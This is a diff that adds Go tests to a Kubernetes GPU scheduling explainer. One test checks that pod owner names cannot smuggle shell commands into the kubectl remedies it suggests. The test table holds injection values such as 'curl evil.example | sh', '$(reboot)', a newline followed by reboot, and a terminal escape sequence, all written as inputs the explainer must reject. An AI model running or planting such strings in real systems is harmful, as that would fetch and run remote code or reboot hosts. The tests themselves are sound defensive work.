@@ -76,6 +76,46 @@ func TestPods(t *testing.T) {
 	}
 }
 
+// Whoever makes a pod writes its owner as they like: what they write is no command for others.
+func TestCommandsAreOfNamesThatObjectsCanHave(t *testing.T) {
+	for owner, want := range map[string]string{
+		"Job/train":                       `kubectl -n team patch job train --type=merge -p '{"spec":{"suspend":true}}'`,
+		"Deployment/serve":                "kubectl -n team scale deployment serve --replicas=0",
+		"StatefulSet/serve.v1":            "kubectl -n team scale statefulset serve.v1 --replicas=0",
+		"Job/x; curl evil.example | sh #": "",
+		"Job/$(reboot)":                   "",
+		"StatefulSet/--all":               "",
+		"Pod/x\nreboot":                   "",
+		"ReplicaSet; reboot #/x":          "",
+		"RayCluster/ray":                  "",
+		"Job/x/y":                         "",
+		"Job/\x1b]0;title\x07":            "",
+	} {
+		t.Run(owner, func(t *testing.T) {
+			w := newWorld(t, 1)
+			w.pod("holds", "n0", 8, func(p *corev1.Pod) {
+				kind, name, _ := strings.Cut(owner, "/")
+				p.OwnerReferences = []metav1.OwnerReference{{Kind: kind, Name: name, UID: "u", Controller: ptr.To(true)}}
+			})
+			w.pod("mine", "", 8)
+			e, err := w.explainer(t).Pod(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "mine"}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			r := remedy(e, explain.Evict)
+			if len(r.Subjects) != 1 || strings.Join(r.Commands, "\n") != want {
+				t.Errorf("%q of %q, want %q", r.Commands, r.Subjects, want)
+			}
+			if text := fmt.Sprint(*e); strings.ContainsAny(text, "\x1b\x07\n") {
+				t.Errorf("it moves the terminal: %q", text)
+			}
+		})
+	}
+	if got, want := quoted("it's"), `'it'\''s'`; got != want {
+		t.Errorf("quoted as %s, want %s", got, want)
+	}
+}
+
 func TestGangsOfPods(t *testing.T) {
 	w := newWorld(t, 3)
 	w.pod("other", "n2", 8)
@@ -102,5 +142,38 @@ func TestGangsOfPods(t *testing.T) {
 	ask.Name.Name = "nothing"
 	if _, err := w.explainer(t).Gang(t.Context(), ask); !apierrors.IsNotFound(err) {
 		t.Errorf("no such gang: %v", err)
+	}
+}
+
+// A gang's pods need not be alike: a leader without GPUs does not stand for its workers.
+func TestGangsOfUnequalPods(t *testing.T) {
+	for name, c := range map[string]struct {
+		sizes   []int64
+		size    int
+		verdict string
+		reason  explain.Reason
+	}{
+		"a leader and workers for whom there is no room": {[]int64{0, 8, 8}, 3, "ASK", explain.NotEnoughGPUs},
+		"of whom most are not there yet":                 {[]int64{0, 8, 8}, 4, "ASK", explain.NotEnoughGPUs},
+		"a leader who is the largest":                    {[]int64{8, 4}, 2, "WAIT", explain.OtherScheduler},
+		"for all of whom there is room":                  {[]int64{1, 4, 4}, 3, "WAIT", explain.OtherScheduler},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t, 3)
+			w.pod("other", "n0", 8)
+			if c.verdict == "ASK" {
+				w.pod("another", "n1", 8)
+			}
+			for i, gpus := range c.sizes {
+				w.pod(fmt.Sprintf("g-%d", i), "", gpus, inGang("g", c.size))
+			}
+			e, err := w.explainer(t).Gang(t.Context(), Ask{Name: types.NamespacedName{Namespace: "team", Name: "g"}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if e.Verdict != c.verdict || e.Reason != string(c.reason) {
+				t.Errorf("%s, %s: %s", e.Verdict, e.Reason, e.Message)
+			}
+		})
 	}
 }
